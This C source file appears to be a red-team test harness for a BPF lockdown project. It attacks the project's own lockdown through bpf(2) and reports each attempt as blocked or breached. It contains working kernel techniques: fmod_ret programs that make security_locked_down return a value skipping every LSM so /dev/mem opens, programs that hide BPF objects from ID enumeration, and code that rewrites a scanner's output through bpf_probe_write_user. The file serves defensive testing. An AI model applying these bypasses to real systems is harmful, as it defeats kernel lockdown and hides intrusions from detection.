// SPDX-License-Identifier: GPL-2.0
/*
 * The red team's bpf(2) attacks on an applied lockdown, done the way
 * bpftool does them (by ID, by pin path). Each prints
 *   ATTACK <name> blocked|breached <detail>
 * "breached" means the attack reached something it must not: an fd to an
 * enforcing object (a link's fd is harmless unless it detaches or
 * updates the link), a write, a detach. Routes through the file system
 * (rm, mv, umount, mount) are in guest/scenarios.sh.
 *
 * Usage: attack [NAME...]            (default: every attack)
 *        attack --raise-to LEVEL     runs prog_raise_level as anyone could
 *        attack --unrelated          what root may still do with BPF
 *        attack --plant DIR MARKER   pins objects of root's own under
 *                                    lockdown's names in DIR
 *        attack --forge DIR MARKER   the same, with the layout of ours
 *                                    and programs answering "none"
 *        attack --preload FILE       loads an fmod_ret program now and
 *                                    attaches it once FILE exists
 *        attack --preattach FILE     attaches one now, holds it until FILE
 *        attack --prehide FILE lsm|fmod_ret
 *                                    attaches one answering 1 << 32 now and
 *                                    a program hiding every program and
 *                                    link from the ID walk (on the bpf LSM
 *                                    hook, or fmod_ret on security_bpf),
 *                                    holds both until FILE
 *        attack --prewrite FILE      attaches one answering 1 << 32 now and
 *                                    an fexit program on vfs_read that
 *                                    rewrites the bypass scan's records
 *                                    in lockdownctl's buffer, holds both
 *                                    until FILE
 *        attack --stall-load FILE    loads one, held inside the kernel
 *                                    (after every load-time check, before
 *                                    it has an ID) until FILE exists, then
 *                                    attaches it
 *        attack --set-traced guard|steal|state LEVEL
 *                                    runs lockdownctl set LEVEL under
 *                                    ptrace, takes fds to our maps before
 *                                    the guard is armed, then uses them
 *        attack --set-raced LEVEL    runs lockdownctl set LEVEL and races
 *                                    it without ptrace: opens the new
 *                                    maps by ID and takes its map fds
 *                                    with pidfd_getfd(), then uses them
 *        attack --freplace-raise PIN extension of a decoy of root's,
 *                                    attached to our raise_level; the
 *                                    link pinned at PIN
 *        attack --stress SECONDS     raises, applies and probes at once
 *        attack --marker BUILD       prints the marker of that build at
 *                                    this ABI (build-ABI-BUILD)
 *
 * Attacks that our hooks refuse name their task "rt_<route>" first, so
 * that the scenario can find the self_protect event of that very attempt
 * (events are folded per command name).
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <poll.h>
#include <pthread.h>
#include <unistd.h>
#include <time.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/utsname.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <linux/bpf.h>
#include <linux/userfaultfd.h>
#include <bpf/bpf.h>
#include <bpf/btf.h>
#include <bpf/libbpf.h>
#include "lockdown_abi.h"

#define PIN_DIR "/sys/fs/bpf/lockdown"
#define STR_(x) #x
#define STR(x) STR_(x)
/* A generation marker's start at this ABI (src/generation.c). */
#define MARKER "build-" STR(LOCKDOWN_ABI_VERSION) "-"
#define RAISE_PIN PIN_DIR "/prog_raise_level"
#define POLICY_PIN PIN_DIR "/prog_policy"
#define LINK_PIN PIN_DIR "/links/lockdown_locked_down"

static const struct bpf_insn return_zero[] = {
	{ .code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = BPF_REG_0 },
	{ .code = BPF_JMP | BPF_EXIT },
};

static int report(const char *name, int breached, const char *detail)
{
	printf("ATTACK %s %s %s\n", name, breached ? "breached" : "blocked",
	       detail);
	fflush(stdout);
	return breached;
}

static int report_errno(const char *name, int breached, const char *what)
{
	char detail[128];

	snprintf(detail, sizeof(detail), "%s:%s", what,
		 breached ? "succeeded" : strerror(errno));
	return report(name, breached, detail);
}

static int load_returning(const char *func, enum bpf_prog_type type,
			  enum bpf_attach_type attach, __u64 ret);

/* What one of detach or update answered on every link it was tried on:
 * the first answer, and whether all were the same. */
struct answer {
	int tried, succeeded, err, mixed;
};

static void note_answer(struct answer *a, int ret)
{
	int err = ret ? errno : 0;

	if (!ret)
		a->succeeded++;
	if (a->tried++ && err != a->err)
		a->mixed = 1;
	else
		a->err = err;
}

static const char *answer_text(const struct answer *a)
{
	if (!a->tried)
		return "not tried";
	if (a->mixed)
		return "mixed answers";
	return a->err ? strerror(a->err) : "succeeded";
}

static int prog_of_link(int fd, struct bpf_link_info *info)
{
	__u32 len = sizeof(*info);

	memset(info, 0, sizeof(*info));
	return bpf_link_get_info_by_fd(fd, info, &len);
}

/*
 * Every link by ID, then BPF_LINK_DETACH and BPF_LINK_UPDATE of each one
 * opened. While the guard's bpf hook is attached, ours answer ENOENT;
 * without it they open, and must be harmless: LSM links (tracing links)
 * have neither detach nor update_prog, so detach answers EOPNOTSUPP and
 * update EINVAL. The replacement offered to update is a real LSM program
 * returning 0 on file_open (none loads on a hook of ours, such as
 * locked_down, once the guard is armed: before_ours), so that EINVAL is
 * the link's answer, not the new program fd's (EBADF).
 *
 * Blocked when no detach or update succeeded, no open failed otherwise
 * than with ENOENT, and either a link on lsm/locked_down (ours: once
 * armed, nobody else can load an LSM program there) was opened and kept
 * its program, or none was opened and some were refused. Anything else,
 * an empty list included, is a breach: the attack must reach our links.
 */
static int attack_link_by_id(void)
{
	struct answer detach = { 0 }, update = { 0 };
	int opened = 0, tried = 0, refused = 0, other = 0, ours = 0;
	int replaced = 0, prog = -1, prog_errno = 0, ours_id = 0;
	struct btf *vmlinux = btf__load_vmlinux_btf();
	char detail[256];
	__u32 id = 0;

	if (vmlinux)
		ours_id = btf__find_by_name_kind(vmlinux, "bpf_lsm_locked_down",
						 BTF_KIND_FUNC);
	btf__free(vmlinux);
	if (ours_id <= 0)
		return report("link_fd_by_id", 1,
			      "no bpf_lsm_locked_down in vmlinux BTF");
	while (!bpf_link_get_next_id(id, &id)) {
		struct bpf_link_info info;
		int fd = bpf_link_get_fd_by_id(id), is_ours;
		__u32 prog_id;

		tried++;
		if (fd < 0) {
			if (errno == ENOENT)
				refused++;
			else
				other++;
			continue;
		}
		opened++;
		is_ours = !prog_of_link(fd, &info) &&
			  info.type == BPF_LINK_TYPE_TRACING &&
			  info.tracing.attach_type == BPF_LSM_MAC &&
			  info.tracing.target_btf_id == (__u32)ours_id;
		prog_id = info.prog_id;

		if (prog < 0 && !prog_errno) {
			prog = load_returning("bpf_lsm_file_open",
					      BPF_PROG_TYPE_LSM, BPF_LSM_MAC,
					      0);
			if (prog < 0)
				prog_errno = errno;
		}
		note_answer(&detach, bpf_link_detach(fd));
		if (prog >= 0)
			note_answer(&update, bpf_link_update(fd, prog, NULL));
		/* Still the same program behind it. */
		if (is_ours) {
			ours++;
			if (prog_of_link(fd, &info) || info.prog_id != prog_id)
				replaced++;
		}
		close(fd);
	}
	if (prog >= 0)
		close(prog);
	if (prog_errno)
		snprintf(
			detail, sizeof(detail),
			"%d of %d opened (%d on locked_down); no replacement program for update: %s",
			opened, tried, ours, strerror(prog_errno));
	else
		snprintf(
			detail, sizeof(detail),
			"%d of %d opened (%d on locked_down), %d refused (ENOENT), %d other; detach: %s, update (lsm/file_open prog): %s",
			opened, tried, ours, refused, other,
			answer_text(&detach), answer_text(&update));
	return report("link_fd_by_id",
		      !tried || other || prog_errno || detach.succeeded ||
			      update.succeeded || replaced ||
			      !(ours || (!opened && refused)),
		      detail);
}

static int attack_link_pin(void)
{
	int fd = bpf_obj_get(LINK_PIN);

	if (fd >= 0) {
		bpf_link_detach(fd);
		close(fd);
	}
	return report_errno("link_pin_obj_get", fd >= 0, "BPF_OBJ_GET");
}

/* Every map by ID, writable: then overwrite key 0 with zeros (the level,
 * the counters). The ring buffer is the one map handed out writable (its
 * reader moves the consumer position), and it has no elements to write. */
static int attack_map_write(void)
{
	__u32 id = 0;
	int written = 0, opened = 0, tried = 0;
	char detail[96];

	while (!bpf_map_get_next_id(id, &id)) {
		struct bpf_map_info info = { 0 };
		__u32 len = sizeof(info), key = 0;
		char zeros[4096] = { 0 };
		int fd = bpf_map_get_fd_by_id(id);

		tried++;
		if (fd < 0)
			continue;
		opened++;
		if (!bpf_obj_get_info_by_fd(fd, &info, &len) &&
		    info.type != BPF_MAP_TYPE_RINGBUF &&
		    info.value_size <= sizeof(zeros) &&
		    !bpf_map_update_elem(fd, &key, zeros, BPF_ANY))
			written++;
		close(fd);
	}
	snprintf(detail, sizeof(detail),
		 "%d of %d maps opened writable, %d written", opened, tried,
		 written);
	return report("map_write_by_id", written > 0, detail);
}

static int attack_map_pin_rw(void)
{
	int fd = bpf_obj_get(PIN_DIR "/counters");

	if (fd >= 0)
		close(fd);
	return report_errno("counters_pin_writable", fd >= 0, "BPF_OBJ_GET rw");
}

/* Sum of the denied counters of every reason, over every CPU. */
static long long denied_total(int fd)
{
	int ncpu = libbpf_num_possible_cpus();
	struct lockdown_counters values[512];
	long long sum = 0;

	if (ncpu <= 0 || ncpu > 512)
		return -1;
	for (__u32 key = 0; key < LOCKDOWN_MAX_REASONS; key++) {
		if (bpf_map_lookup_elem(fd, &key, values))
			return -1;
		for (int cpu = 0; cpu < ncpu; cpu++)
			sum += values[cpu].denied;
	}
	return sum;
}

/* Freezing needs a writable fd on newer kernels; on 6.1 a read-only one
 * is enough. Either way a frozen map still takes the BPF side's writes,
 * so the attack succeeds only if counting stops. */
static int attack_map_freeze(void)
{
	LIBBPF_OPTS(bpf_obj_get_opts, opts, .file_flags = BPF_F_RDONLY);
	int fd = bpf_obj_get_opts(PIN_DIR "/counters", &opts), ret, mem;
	long long before, after;
	char detail[128];

	if (fd < 0)
		return report_errno("counters_freeze", 1, "no read-only fd");
	ret = bpf_map_freeze(fd);
	snprintf(detail, sizeof(detail), "BPF_MAP_FREEZE:%s",
		 ret ? strerror(errno) : "succeeded");
	before = denied_total(fd);
	mem = open("/dev/mem", O_RDONLY);
	if (mem >= 0)
		close(mem);
	after = denied_total(fd);
	close(fd);
	snprintf(detail + strlen(detail), sizeof(detail) - strlen(detail),
		 " denials counted %lld -> %lld", before, after);
	return report("counters_freeze", before < 0 || after <= before, detail);
}

/* Every program by ID: only prog_raise_level may be handed out. */
static int attack_prog_by_id(void)
{
	__u32 id = 0;
	int got = 0, tried = 0;
	char detail[64];

	while (!bpf_prog_get_next_id(id, &id)) {
		struct bpf_prog_info info = { 0 };
		__u32 len = sizeof(info);
		int fd = bpf_prog_get_fd_by_id(id);

		tried++;
		if (fd < 0)
			continue;
		/* Ours are LSM programs, but for the two syscall ones whose
		 * fds are handed out; the red team's own are tracing ones. */
		if (!bpf_obj_get_info_by_fd(fd, &info, &len) &&
		    info.type == BPF_PROG_TYPE_LSM)
			got++;
		close(fd);
	}
	snprintf(detail, sizeof(detail), "%d of %d enforcing programs opened",
		 got, tried);
	return report("prog_fd_by_id", got > 0, detail);
}

/* Loads a program of @type/@attach aimed at function @func of @target. */
static int load_against(int target, const char *func, enum bpf_prog_type type,
			enum bpf_attach_type attach)
{
	struct bpf_prog_info info = { 0 };
	__u32 len = sizeof(info);
	struct btf *btf;
	int btf_id, fd;

	if (bpf_obj_get_info_by_fd(target, &info, &len) || !info.btf_id)
		return -1;
	btf = btf__load_from_kernel_by_id(info.btf_id);
	if (!btf)
		return -1;
	btf_id = btf__find_by_name_kind(btf, func, BTF_KIND_FUNC);
	btf__free(btf);
	if (btf_id < 0)
		return -1;
	LIBBPF_OPTS(bpf_prog_load_opts, opts, .attach_prog_fd = target,
		    .attach_btf_id = btf_id, .expected_attach_type = attach);
	fd = bpf_prog_load(type, "attack", "GPL", return_zero, 2, &opts);
	if (fd >= 0)
		close(fd);
	return fd;
}

static int attack_attach_to_raise(void)
{
	int target = bpf_obj_get(RAISE_PIN), fentry, ext;

	if (target < 0)
		return report_errno("attach_to_our_prog", 1, "no target fd");
	fentry = load_against(target, "raise_level", BPF_PROG_TYPE_TRACING,
			      BPF_TRACE_FENTRY);
	int fentry_errno = errno;
	ext = load_against(target, "raise_level", BPF_PROG_TYPE_EXT, 0);
	close(target);
	char detail[96];
	snprintf(detail, sizeof(detail), "fentry:%s freplace:%s",
		 fentry >= 0 ? "loaded" : strerror(fentry_errno),
		 ext >= 0 ? "loaded" : strerror(errno));
	return report("attach_to_our_prog", fentry >= 0 || ext >= 0, detail);
}

/* Loads program @insns of @type named @name on vmlinux function @func,
 * with the verifier's log at @log_level in @log (@log_size bytes): its
 * fd, or -1 with errno set (ENOENT: the kernel has no @func). */
static int load_on_log(const char *name, const char *func,
		       enum bpf_prog_type type, enum bpf_attach_type attach,
		       const struct bpf_insn *insns, size_t n, char *log,
		       size_t log_size, __u32 log_level)
{
	struct btf *vmlinux = btf__load_vmlinux_btf();
	int btf_id;

	btf_id = vmlinux ? btf__find_by_name_kind(vmlinux, func, BTF_KIND_FUNC)
			 : -ENOENT;
	btf__free(vmlinux);
	if (btf_id < 0) {
		errno = ENOENT;
		return -1;
	}
	LIBBPF_OPTS(bpf_prog_load_opts, opts, .attach_btf_id = btf_id,
		    .expected_attach_type = attach, .log_buf = log,
		    .log_size = log_size, .log_level = log_level);
	return bpf_prog_load(type, name, "GPL", insns, n, &opts);
}

static int load_on(const char *func, enum bpf_prog_type type,
		   enum bpf_attach_type attach, const struct bpf_insn *insns,
		   size_t n)
{
	return load_on_log("before_ours", func, type, attach, insns, n, NULL, 0,
			   0);
}

/* A program returning the 64-bit @ret, loaded as load_on_log() does. */
static int load_returning_log(const char *name, const char *func,
			      enum bpf_prog_type type,
			      enum bpf_attach_type attach, __u64 ret, char *log,
			      size_t log_size, __u32 log_level)
{
	const struct bpf_insn insns[] = {
		{ .code = BPF_LD | BPF_DW | BPF_IMM,
		  .dst_reg = BPF_REG_0,
		  .imm = (__s32)(__u32)ret },
		{ .imm = (__s32)(__u32)(ret >> 32) },
		{ .code = BPF_JMP | BPF_EXIT },
	};

	return load_on_log(name, func, type, attach, insns, 3, log, log_size,
			   log_level);
}

/* Loads a program of @type returning the 64-bit @ret on vmlinux function
 * @func: its fd, or -1 with errno set (ENOENT: the kernel has no @func). */
static int load_returning(const char *func, enum bpf_prog_type type,
			  enum bpf_attach_type attach, __u64 ret)
{
	return load_returning_log("before_ours", func, type, attach, ret, NULL,
				  0, 0);
}

/*
 * Every program that could stand before ours: fmod_ret on the security_*()
 * functions and LSM (also cgroup LSM) programs on the bpf_lsm_*() hooks
 * that self-protection and enforcement rely on, returning 1, -1 or a value
 * whose low 32 bits are 0. Each must be refused at load by our guard
 * (EPERM, before the verifier sees it); any that loads, or fails for
 * another reason, is a breach. Hooks a kernel lacks are skipped, but at
 * least one per pair must exist. The bpf hook is ours only when set found
 * programs loaded before it (it attaches on demand): LSM programs there
 * stand before nothing of ours otherwise, so only fmod_ret is tried on it.
 */
static int attack_before_ours(void)
{
	static const char *const hooks[][2] = {
		{ "security_bpf_map", "bpf_lsm_bpf_map" },
		{ "security_bpf_prog", "bpf_lsm_bpf_prog" },
		{ "security_bpf", NULL },
		{ "security_bpf_prog_load", "bpf_lsm_bpf_prog_load" },
		{ "security_bpf_prog_alloc",
		  "bpf_lsm_bpf_prog_alloc_security" },
		{ "security_locked_down", "bpf_lsm_locked_down" },
		{ "security_inode_permission", "bpf_lsm_inode_permission" },
		{ "security_sb_umount", "bpf_lsm_sb_umount" },
	};
	static const __u64 rets[] = { 1, (__u64)-1, 1ULL << 32 };
	static const struct {
		int func; /* index in hooks[] */
		enum bpf_prog_type type;
		enum bpf_attach_type attach;
	} kinds[] = {
		{ 0, BPF_PROG_TYPE_TRACING, BPF_MODIFY_RETURN },
		{ 1, BPF_PROG_TYPE_LSM, BPF_LSM_MAC },
		{ 1, BPF_PROG_TYPE_LSM, BPF_LSM_CGROUP },
	};
	int tried = 0, refused = 0, absent = 0, other = 0, loaded = 0;
	char detail[160], first[96] = "";

	for (size_t h = 0; h < sizeof(hooks) / sizeof(hooks[0]); h++) {
		for (size_t k = 0; k < sizeof(kinds) / sizeof(kinds[0]); k++) {
			for (size_t r = 0; r < sizeof(rets) / sizeof(rets[0]);
			     r++) {
				const char *f = hooks[h][kinds[k].func];
				int fd;

				if (!f)
					continue;
				fd = load_returning(f, kinds[k].type,
						    kinds[k].attach, rets[r]);
				if (fd < 0 && errno == ENOENT) {
					absent++;
					continue;
				}
				tried++;
				if (fd < 0 && errno == EPERM) {
					refused++;
					continue;
				}
				if (fd >= 0) {
					loaded++;
					close(fd);
				} else {
					other++;
				}
				if (!first[0])
					snprintf(first, sizeof(first),
						 " first: %s %s", f,
						 fd >= 0 ? "loaded"
							 : strerror(errno));
			}
		}
	}
	snprintf(detail, sizeof(detail),
		 "tried=%d refused=%d other=%d loaded=%d absent=%d%s", tried,
		 refused, other, loaded, absent, first);
	/* 8 pairs, of which one prog_load/alloc pair is absent and one
	 * (bpf) has no LSM side: at least 6 x 9 + 3 programs tried. */
	return report("before_ours", loaded || other || tried < 57, detail);
}

/*
 * Attaches a program answering @ret to vmlinux function @func, then opens
 * /dev/mem: breached when it opens. Answering 0, another LSM program or
 * fmod_ret on security_locked_down() ("run the original") could only add
 * refusals; fmod_ret answering a value whose low 32 bits are 0 skips every
 * LSM, the kernel's lockdown included, and the caller reads 0, "allowed".
 * Under lockdown none of them loads.
 */
static int allow_all(const char *name, const char *func,
		     enum bpf_prog_type type, enum bpf_attach_type attach,
		     __u64 ret)
{
	int prog, link = -1, mem, load_errno;
	char detail[128];

	prog = load_returning(func, type, attach, ret);
	load_errno = errno;
	if (prog >= 0)
		link = bpf_link_create(prog, 0, attach, NULL);
	mem = open("/dev/mem", O_RDONLY);
	snprintf(detail, sizeof(detail), "load:%s attach:%s /dev/mem:%s",
		 prog >= 0 ? "ok" : strerror(load_errno),
		 link >= 0 ? "ok" : "no",
		 mem >= 0 ? "opened" : strerror(errno));
	if (mem >= 0)
		close(mem);
	if (link >= 0)
		close(link);
	if (prog >= 0)
		close(prog);
	return report(name, mem >= 0, detail);
}

static int attack_lsm_allow_all(void)
{
	return allow_all("lsm_allow_all", "bpf_lsm_locked_down",
			 BPF_PROG_TYPE_LSM, BPF_LSM_MAC, 0);
}

static int attack_fmod_ret(void)
{
	return allow_all("fmod_ret_allow_all", "security_locked_down",
			 BPF_PROG_TYPE_TRACING, BPF_MODIFY_RETURN, 0);
}

static int attack_fmod_ret_dev_mem(void)
{
	return allow_all("fmod_ret_dev_mem", "security_locked_down",
			 BPF_PROG_TYPE_TRACING, BPF_MODIFY_RETURN, 1ULL << 32);
}

/* Loads an fmod_ret program (answering 0: it changes nothing yet) before
 * lockdown, waits until @go exists, then attaches it: an fd held from
 * before the guard. Breached when it attaches. With --attach-now it
 * attaches first and holds the link until @go exists. */
static int preload(const char *go, int attach_now)
{
	int prog, link = -1;
	char detail[96];

	prog = load_returning("security_locked_down", BPF_PROG_TYPE_TRACING,
			      BPF_MODIFY_RETURN, 0);
	if (prog < 0) {
		perror("attack: loading the fmod_ret program");
		return 2;
	}
	if (attach_now) {
		link = bpf_link_create(prog, 0, BPF_MODIFY_RETURN, NULL);
		if (link < 0) {
			perror("attack: attaching the fmod_ret program");
			return 2;
		}
	}
	printf("PRELOADED %s\n", attach_now ? "attached" : "loaded");
	fflush(stdout);
	while (access(go, F_OK))
		usleep(100000);
	if (attach_now)
		return 0;
	link = bpf_link_create(prog, 0, BPF_MODIFY_RETURN, NULL);
	snprintf(detail, sizeof(detail), "BPF_LINK_CREATE:%s",
		 link >= 0 ? "attached" : strerror(errno));
	return report("preloaded_attach", link >= 0, detail);
}

/* Runs @cmd with an empty attr (start_id/prog_id 0 for the by-ID commands,
 * @id for the others): "ok" or the errno's name, into @buf. */
static const char *bpf_cmd_result(int cmd, __u32 id, char *buf, size_t size)
{
	union bpf_attr attr;

	memset(&attr, 0, sizeof(attr));
	if (cmd == BPF_PROG_GET_FD_BY_ID)
		attr.prog_id = id;
	else if (cmd == BPF_LINK_GET_FD_BY_ID)
		attr.link_id = id;
	else
		attr.start_id = id;
	long ret = syscall(__NR_bpf, cmd, &attr, sizeof(attr));

	if (ret >= 0) {
		if (cmd == BPF_PROG_GET_FD_BY_ID ||
		    cmd == BPF_LINK_GET_FD_BY_ID)
			close(ret);
		snprintf(buf, size, "ok");
	} else {
		snprintf(buf, size, "%s",
			 errno == ENOENT ? "ENOENT" : strerror(errno));
	}
	return buf;
}

static __u32 prog_id_of(int fd)
{
	struct bpf_prog_info info = { 0 };
	__u32 len = sizeof(info);

	return bpf_prog_get_info_by_fd(fd, &info, &len) ? 0 : info.id;
}

static __u32 link_id_of(int fd)
{
	struct bpf_link_info info = { 0 };
	__u32 len = sizeof(info);

	return bpf_link_get_info_by_fd(fd, &info, &len) ? 0 : info.id;
}

/*
 * Before lockdown, root attaches a program that overrides it (fmod_ret on
 * security_locked_down answering 1 << 32: /dev/mem opens under any level)
 * and one that hides every program and link from the ID walk a scan for it
 * would do: on the bpf() LSM hook (@variant "lsm") or with fmod_ret on
 * security_bpf() ("fmod_ret"), it answers -ENOENT to BPF_PROG_GET_NEXT_ID,
 * BPF_LINK_GET_NEXT_ID, BPF_PROG_GET_FD_BY_ID and BPF_LINK_GET_FD_BY_ID
 * (as if the list had ended, or the object were gone) and 0 otherwise.
 * Prints "PREHIDDEN <variant> <proof>" once it has seen the hide work on
 * its own objects (each of the four answering ENOENT, when each answered
 * before) and /dev/mem open, then holds both links until @go exists.
 */
static int prehide(const char *go, const char *variant)
{
	static const int hidden[] = { BPF_PROG_GET_NEXT_ID,
				      BPF_LINK_GET_NEXT_ID,
				      BPF_PROG_GET_FD_BY_ID,
				      BPF_LINK_GET_FD_BY_ID };
	static const char *const names[] = { "prog_next_id", "link_next_id",
					     "prog_fd_by_id", "link_fd_by_id" };
	/* r2 = ctx[0] (cmd); r0 = 0; if w2 is one of the four, r0 = -ENOENT. */
	const struct bpf_insn hide[] = {
		{ .code = BPF_LDX | BPF_MEM | BPF_DW,
		  .dst_reg = BPF_REG_2,
		  .src_reg = BPF_REG_1 },
		{ .code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = BPF_REG_0 },
		{ .code = BPF_JMP32 | BPF_JEQ | BPF_K,
		  .dst_reg = BPF_REG_2,
		  .off = 4,
		  .imm = hidden[0] },
		{ .code = BPF_JMP32 | BPF_JEQ | BPF_K,
		  .dst_reg = BPF_REG_2,
		  .off = 3,
		  .imm = hidden[1] },
		{ .code = BPF_JMP32 | BPF_JEQ | BPF_K,
		  .dst_reg = BPF_REG_2,
		  .off = 2,
		  .imm = hidden[2] },
		{ .code = BPF_JMP32 | BPF_JEQ | BPF_K,
		  .dst_reg = BPF_REG_2,
		  .off = 1,
		  .imm = hidden[3] },
		{ .code = BPF_JMP | BPF_EXIT },
		{ .code = BPF_ALU64 | BPF_MOV | BPF_K,
		  .dst_reg = BPF_REG_0,
		  .imm = -ENOENT },
		{ .code = BPF_JMP | BPF_EXIT },
	};
	int lsm = !strcmp(variant, "lsm"), bypass, bypass_link, prog, link;
	__u32 ids[4];
	char before[4][32], after[4][32], proof[256] = "", *p = proof;
	int mem;

	if (!lsm && strcmp(variant, "fmod_ret")) {
		fprintf(stderr, "attack: --prehide FILE lsm|fmod_ret\n");
		return 2;
	}
	bypass = load_returning("security_locked_down", BPF_PROG_TYPE_TRACING,
				BPF_MODIFY_RETURN, 1ULL << 32);
	if (bypass < 0) {
		perror("attack: loading the fmod_ret program on security_locked_down");
		return 2;
	}
	bypass_link = bpf_link_create(bypass, 0, BPF_MODIFY_RETURN, NULL);
	if (bypass_link < 0) {
		perror("attack: attaching the fmod_ret program on security_locked_down");
		return 2;
	}
	prog = lsm ? load_on("bpf_lsm_bpf", BPF_PROG_TYPE_LSM, BPF_LSM_MAC,
			     hide, sizeof(hide) / sizeof(hide[0]))
		   : load_on("security_bpf", BPF_PROG_TYPE_TRACING,
			     BPF_MODIFY_RETURN, hide,
			     sizeof(hide) / sizeof(hide[0]));
	if (prog < 0) {
		perror("attack: loading the hiding program");
		return 2;
	}
	/* Each of the four on our own objects, before and after the hide. */
	ids[0] = 0;
	ids[1] = 0;
	ids[2] = prog_id_of(bypass);
	ids[3] = link_id_of(bypass_link);
	for (int i = 0; i < 4; i++)
		bpf_cmd_result(hidden[i], ids[i], before[i], sizeof(before[i]));
	link = bpf_link_create(prog, 0, lsm ? BPF_LSM_MAC : BPF_MODIFY_RETURN,
			       NULL);
	if (link < 0) {
		perror("attack: attaching the hiding program");
		return 2;
	}
	for (int i = 0; i < 4; i++) {
		bpf_cmd_result(hidden[i], ids[i], after[i], sizeof(after[i]));
		p += snprintf(p, proof + sizeof(proof) - p, "%s%s:%s->%s",
			      i ? "," : "", names[i], before[i], after[i]);
		if (strcmp(before[i], "ok") || strcmp(after[i], "ENOENT")) {
			fprintf(stderr, "attack: the hide does not work: %s\n",
				proof);
			return 2;
		}
	}
	mem = open("/dev/mem", O_RDONLY);
	if (mem < 0) {
		perror("attack: /dev/mem with the bypass attached");
		return 2;
	}
	close(mem);
	printf("PREHIDDEN %s %s dev_mem:opened\n", variant, proof);
	fflush(stdout);
	while (access(go, F_OK))
		usleep(100000);
	close(link);
	close(prog);
	close(bypass_link);
	close(bypass);
	return 0;
}

#define INSN(c, d, sr, o, i)                 \
	((struct bpf_insn){ .code = (c),     \
			    .dst_reg = (d),  \
			    .src_reg = (sr), \
			    .off = (o),      \
			    .imm = (i) })

/*
 * Before lockdown, root attaches the bypass (fmod_ret on
 * security_locked_down answering 1 << 32) and an fexit program on
 * vfs_read() that, in what any read(2) returns, finds the records of the
 * bypass scan (struct lockdown_scan_rec, by their magic) and rewrites the
 * attach type BPF_MODIFY_RETURN to BPF_TRACE_FENTRY with
 * bpf_probe_write_user() (loaded while nothing refuses it): every record
 * stays, numbered as the kernel numbered it, but none names an fmod_ret
 * program. Prints "PREWRITTEN" once /dev/mem opens with both attached,
 * then holds them until @go exists.
 */
static int prewrite(const char *go)
{
	const __u32 rec = sizeof(struct lockdown_scan_rec);
	const __s16 at = offsetof(struct lockdown_scan_rec, attach_type);
	_Static_assert(sizeof(struct lockdown_scan_rec) == 32, "record");
	const struct bpf_insn rewrite[] = {
		/* r6 = buf (ctx[1]), r7 = returned (ctx[4]), r8 = 0 */
		INSN(BPF_LDX | BPF_MEM | BPF_DW, BPF_REG_6, BPF_REG_1, 8, 0),
		INSN(BPF_LDX | BPF_MEM | BPF_DW, BPF_REG_7, BPF_REG_1, 32, 0),
		INSN(BPF_ALU64 | BPF_MOV | BPF_K, BPF_REG_8, 0, 0, 0),
		/* 3, loop: while r8 <= 32 KiB and r8 + rec <= returned */
		INSN(BPF_JMP | BPF_JGT | BPF_K, BPF_REG_8, 0, 24, 32768),
		INSN(BPF_ALU64 | BPF_MOV | BPF_X, BPF_REG_9, BPF_REG_8, 0, 0),
		INSN(BPF_ALU64 | BPF_ADD | BPF_K, BPF_REG_9, 0, 0, rec),
		INSN(BPF_JMP | BPF_JSGT | BPF_X, BPF_REG_9, BPF_REG_7, 21, 0),
		/* the record at buf + r8, to fp - 32 */
		INSN(BPF_ALU64 | BPF_MOV | BPF_X, BPF_REG_1, BPF_REG_10, 0, 0),
		INSN(BPF_ALU64 | BPF_ADD | BPF_K, BPF_REG_1, 0, 0, -32),
		INSN(BPF_ALU64 | BPF_MOV | BPF_K, BPF_REG_2, 0, 0, rec),
		INSN(BPF_ALU64 | BPF_MOV | BPF_X, BPF_REG_3, BPF_REG_6, 0, 0),
		INSN(BPF_ALU64 | BPF_ADD | BPF_X, BPF_REG_3, BPF_REG_8, 0, 0),
		INSN(BPF_JMP | BPF_CALL, 0, 0, 0, BPF_FUNC_probe_read_user),
		INSN(BPF_JMP | BPF_JNE | BPF_K, BPF_REG_0, 0, 14, 0),
		/* 14: a scan record naming an fmod_ret program? */
		INSN(BPF_LDX | BPF_MEM | BPF_W, BPF_REG_2, BPF_REG_10, -32, 0),
		INSN(BPF_JMP | BPF_JNE | BPF_K, BPF_REG_2, 0, 10,
		     LOCKDOWN_SCAN_MAGIC),
		INSN(BPF_LDX | BPF_MEM | BPF_W, BPF_REG_2, BPF_REG_10, -32 + at,
		     0),
		INSN(BPF_JMP | BPF_JNE | BPF_K, BPF_REG_2, 0, 8,
		     BPF_MODIFY_RETURN),
		/* 18: then it names an fentry one */
		INSN(BPF_ST | BPF_MEM | BPF_W, BPF_REG_10, 0, -4,
		     BPF_TRACE_FENTRY),
		INSN(BPF_ALU64 | BPF_MOV | BPF_X, BPF_REG_1, BPF_REG_6, 0, 0),
		INSN(BPF_ALU64 | BPF_ADD | BPF_X, BPF_REG_1, BPF_REG_8, 0, 0),
		INSN(BPF_ALU64 | BPF_ADD | BPF_K, BPF_REG_1, 0, 0, at),
		INSN(BPF_ALU64 | BPF_MOV | BPF_X, BPF_REG_2, BPF_REG_10, 0, 0),
		INSN(BPF_ALU64 | BPF_ADD | BPF_K, BPF_REG_2, 0, 0, -4),
		INSN(BPF_ALU64 | BPF_MOV | BPF_K, BPF_REG_3, 0, 0, 4),
		INSN(BPF_JMP | BPF_CALL, 0, 0, 0, BPF_FUNC_probe_write_user),
		/* 26, next */
		INSN(BPF_ALU64 | BPF_ADD | BPF_K, BPF_REG_8, 0, 0, rec),
		INSN(BPF_JMP | BPF_JA, 0, 0, -25, 0),
		/* 28, out */
		INSN(BPF_ALU64 | BPF_MOV | BPF_K, BPF_REG_0, 0, 0, 0),
		INSN(BPF_JMP | BPF_EXIT, 0, 0, 0, 0),
	};
	static char vlog[1 << 16];
	int bypass, bypass_link, prog, link, mem;

	bypass = load_returning("security_locked_down", BPF_PROG_TYPE_TRACING,
				BPF_MODIFY_RETURN, 1ULL << 32);
	bypass_link = bypass < 0 ? -1
				 : bpf_link_create(bypass, 0, BPF_MODIFY_RETURN,
						   NULL);
	if (bypass_link < 0) {
		perror("attack: the fmod_ret program on security_locked_down");
		return 2;
	}
